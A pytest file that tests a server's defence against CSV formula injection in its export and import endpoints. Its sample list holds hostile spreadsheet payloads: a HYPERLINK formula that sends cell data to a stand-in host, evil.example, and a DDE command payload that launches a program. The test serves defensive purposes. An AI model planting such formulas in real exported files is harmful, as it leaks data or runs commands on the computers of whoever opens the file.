"""CSV injection: no cell the server writes runs as a spreadsheet formula.

The CSV exports (GET /api/export/<kind>.csv, the only CSV the server writes: import errors
are JSON, the schedule is JSON and HTML) once wrote a product named `=HYPERLINK(...)`
verbatim; a spreadsheet opening the file would run it. Every cell starting with `=`, `+`,
`-`, `@`, tab or CR now leaves with a leading `'`, and the import drops it again, so an
export still imports back unchanged.
"""

from __future__ import annotations

import csv
import io

import pytest

from server.core.imports import neutralise, restore
from server.models import Product, Station

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
]


def export(api, kind) -> list[list[str]]:
    resp = api.client.get(
        f"/api/export/{kind}.csv", headers={"Authorization": f"Bearer {api.tokens['supervisor']}"}
    )
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True))))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


@pytest.mark.parametrize("name", DANGEROUS)
def test_product_export_neutralises_formulas_and_imports_back(api, db, name):
    api.post("/api/products", {"sku": "EVIL", "name": name, "kind": "raw"}, expected=201)
    rows = export(api, "products")
    no_formula(rows)
    assert rows[1][:2] == ["EVIL", "'" + name]
    # and the export imports back unchanged: the name is the original, not "'=..."
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    Product.update(name="changed").execute()
    api.call(
        "POST",
        "/api/import/products",
        None,
        expected=200,
        data=buf.getvalue().encode(),
        content_type="text/csv",
    )
    assert Product.get(Product.sku == "EVIL").name == name


def test_station_and_order_exports_neutralise(plant, api, db):
    api.post(
        "/api/stations",
        {"code": "X9", "name": "@evil()", "default_action": "move"},
        expected=201,
    )
    no_formula(export(api, "stations"))
    # cells written straight into the database, bypassing the API's checks
    Station.update(name="\t=1+1").where(Station.code == "X9").execute()
    Product.update(name="\r-1").where(Product.sku == "WIDGET").execute()
    for kind in ("products", "bom", "routings", "stations", "orders"):
        no_formula(export(api, kind))


@pytest.mark.parametrize(
    "cell",
    ["", "plain", "'", "''", "'plain", "'=x", "''=x", "=x", "-5", "\t=x", "\r+1", "@a", "a=b"],
)
def test_neutralise_round_trips(cell):
    out = neutralise(cell)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(out) == cell
